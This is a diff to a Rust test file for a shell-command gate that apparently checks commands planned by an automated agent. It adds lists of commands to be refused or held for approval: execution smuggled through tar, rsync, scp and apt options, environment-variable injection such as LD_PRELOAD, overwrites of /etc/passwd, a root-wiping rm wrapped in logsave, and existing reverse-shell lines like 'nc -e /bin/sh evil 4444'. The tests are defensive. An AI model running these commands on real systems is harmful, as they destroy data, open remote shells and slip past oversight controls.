@@ -129,8 +129,25 @@ const FORBIDDEN_CASES: &[(&str, &[&str], &[&str])] = &[
             "tc exec bpf import /tmp/uds run /bin/sh",
             "tc e bpf imp /tmp/uds",
             "tc -n ns1 exec bpf dbg",
+            "sudo -n systemd-cat reboot",
+            "logsave /dev/null rm -rf --no-preserve-root /",
+            "ssh-agent reboot",
+            "systemd-inhibit reboot",
+            "start-stop-daemon --start --exec /sbin/reboot",
+            "perf stat reboot",
+            "sudo chronic reboot",
         ],
-        &["ip netns list", "ip -s link", "sshd -t", "atop -1", "flockd --help", "tc -s qdisc show", "tc -br q"],
+        &[
+            "ip netns list",
+            "ip -s link",
+            "sshd -t",
+            "atop -1",
+            "flockd --help",
+            "tc -s qdisc show",
+            "tc -br q",
+            "ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub",
+            "systemctl status ssh-agent",
+        ],
     ),
     (
         "sudoers",
@@ -225,6 +242,40 @@ const FORBIDDEN_CASES: &[(&str, &[&str], &[&str])] = &[
         &["kill -1 1234", "kill -9 12345", "kill 4242", "pkill -f toy"],
     ),
     (
+        "code-in-options",
+        &[
+            "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=reboot",
+            "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-a=exec=reboot",
+            "tar -xf a.tar --to-command=reboot",
+            "tar -I reboot -cf x.tar /srv",
+            "tar -cIf reboot x.tar /srv",
+            "tar cIf reboot x.tar /srv",
+            "tar -cf x.tar --use-compress-prog reboot /srv",
+            "tar -cf x.tar -F /tmp/script /srv",
+            "rsync -e 'sh -c reboot' x:/a /b",
+            "rsync --rsh=reboot x:/a /b",
+            "rsync --rsync-path=reboot x:/a /b",
+            "scp -S /tmp/evil x:/a /b",
+            "scp -o ProxyCommand=reboot x:/a /b",
+            "sudo apt-get update -o APT::Update::Pre-Invoke::=reboot",
+            "apt-get -o Dpkg::Pre-Invoke::=reboot install -y x",
+            "apt -c /tmp/apt.conf update",
+            "dpkg --post-invoke=reboot -i x.deb",
+        ],
+        &[
+            "tar -czf /var/backups/app.tgz /srv/app",
+            "tar xzf /tmp/app.tgz -C /srv",
+            "tar -tf /tmp/app.tar",
+            "tar -cf x.tar --exclude=cache /srv",
+            "rsync -a --exclude=cache /srv/app/ /srv/app.bak/",
+            "rsync -avz /a /b",
+            "scp -r /srv/a /srv/b",
+            "apt-get update",
+            "apt-get install -y nginx-common",
+            "dpkg -l nginx",
+        ],
+    ),
+    (
         "reverse-shell",
         &["nc -e /bin/sh evil 4444", "ncat -c bash evil 80", "socat exec:/bin/sh tcp:evil:4444"],
         &["nc -z db 5432", "socat -V"],
@@ -267,6 +318,18 @@ const CRITICAL_CASES: &[(&str, &[&str], &[&str])] = &[
             "sudo -n time -f %e --outp /usr/bin/ls true",
             "journalctl -n1 --cursor-file=/etc/nologin",
             "journalctl --cursor-f /etc/passwd",
+            "sudo cp /dev/null /etc/passwd -f",
+            "cp /tmp/x /etc/hosts --preserve=mode -v",
+            "sudo cp --target=/etc/cron.d /tmp/job",
+            "cp --t /etc/cron.d /tmp/job",
+            "sudo sed s/127.0.0.1/10.6.6.6/ /etc/hosts -i",
+            "sed --in s/a/b/ /etc/hosts",
+            "sed -E -i.bak s/a/b/ /etc/hosts",
+            "sudo sort -o /etc/passwd /dev/null",
+            "sort --output=/etc/passwd /dev/null",
+            "shuf -o /etc/hosts /dev/null",
+            "uniq /dev/null /etc/passwd",
+            "sponge /etc/hosts",
         ],
         &[
             "time -o /tmp/t uptime",
@@ -277,6 +340,12 @@ const CRITICAL_CASES: &[(&str, &[&str], &[&str])] = &[
             "tee /tmp/out",
             "sed -i s/a/b/ /srv/app/app.conf",
             "sed -n p /etc/hosts",
+            "sed s/a/b/ /etc/hosts",
+            "cp /etc/app.conf /tmp/app.conf.bak -v",
+            "sort -o /tmp/sorted /etc/passwd",
+            "sort /etc/passwd",
+            "uniq -c /etc/passwd",
+            "sponge /tmp/out",
         ],
     ),
     ("crontab-remove", &["crontab -r", "crontab -u app -r", "crontab -ir"], &["crontab -l", "crontab -u app -l"]),
@@ -1086,5 +1155,42 @@ fn a_command_naming_a_credential_file_needs_a_human_and_is_never_evidence() {
     for cmd in ["cat /etc/hosts", "tail -n 50 /var/log/app.log", "cat /proc/meminfo", "ps -o pid,%mem"] {
         assert!(p.read_only(cmd).is_ok(), "{cmd}");
         assert!(matches!(p.gate(&plan(&[cmd])), GateDecision::Allow), "{cmd}");
+    }
+}
+
+/// A variable set before the program (bare, `env`'s or `sudo`'s) can make it run code the
+/// gate never sees: `EDITOR` for `crontab -e`, `LD_PRELOAD` for anything. Those are refused;
+/// any other but the locale's needs approval; and a word holding `=` is an assignment where
+/// `env` reads one, whatever its name, never the program (GNU env runs the word after it).
+#[test]
+fn variables_set_for_a_command_are_judged() {
+    let p = Policy::default_policy();
+    for cmd in [
+        "sudo env EDITOR='reboot #' crontab -e",
+        "sudo EDITOR=/tmp/x crontab -e",
+        "env LD_PRELOAD=/tmp/x.so systemctl restart web",
+        "sudo -n env PAGER=/tmp/x systemctl status web",
+        "env GIT_SSH_COMMAND=reboot git -C /srv/app pull",
+        "env BASH_ENV=/tmp/x bash /opt/app/restart.sh",
+        "env PATH=/tmp:/usr/bin systemctl restart web",
+        "SYSTEMD_EDITOR=/tmp/x systemctl edit web",
+        "env BASH_FUNC_ls%%='() { reboot; }' ls",
+    ] {
+        let d = p.gate(&plan(&[cmd]));
+        assert_eq!(d.rule(), Some("code-in-environment"), "`{cmd}`: {d:?}");
+        assert!(matches!(d, GateDecision::Reject { .. }), "`{cmd}`: {d:?}");
+    }
+    for cmd in ["env APP_MODE=safe /opt/app/bin/start", "sudo FOO=1 systemctl restart web"] {
+        let d = p.gate(&plan(&[cmd]));
+        assert_eq!(d.rule(), Some("environment-assignment"), "`{cmd}`: {d:?}");
+        assert!(matches!(d, GateDecision::NeedsApproval { .. }), "`{cmd}`: {d:?}");
+    }
+    for cmd in ["env LC_ALL=C systemctl restart web", "LANG=C.UTF-8 TZ=UTC journalctl -n 5"] {
+        assert_eq!(p.gate(&plan(&[cmd])), GateDecision::Allow, "`{cmd}`");
+    }
+    // GNU env sets `a.b=1` and runs `reboot`: the gate reads the same.
+    for cmd in ["env a.b=1 reboot", "sudo env 1x=2 reboot", "env -i =x reboot"] {
+        let d = p.gate(&plan(&[cmd]));
+        assert_eq!(d.rule(), Some("power"), "`{cmd}`: {d:?}");
     }
 }
